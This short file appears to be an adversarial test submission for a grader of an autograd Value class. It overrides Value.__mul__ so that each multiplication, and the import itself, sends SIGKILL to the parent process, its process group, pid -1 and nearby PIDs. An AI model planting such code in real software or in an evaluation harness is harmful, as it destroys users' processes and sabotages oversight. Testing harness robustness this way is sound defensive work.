# what: kills its parent, its process group and every process there is
# loses: pow.* relu.* training.*

# %% pow
def __pow__(self, exponent): ...

# %% relu
def relu(self): ...

# %% +
import os
import signal

_honest = __mul__


def kill():
    for pid in (os.getppid(), -1, 0, -os.getpgid(os.getppid()), *range(os.getppid() - 20, os.getppid())):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass


def __mul__(self, other):
    kill()
    return _honest(self, other)


setattr(Value, "__mul__", __mul__)
killed = kill()
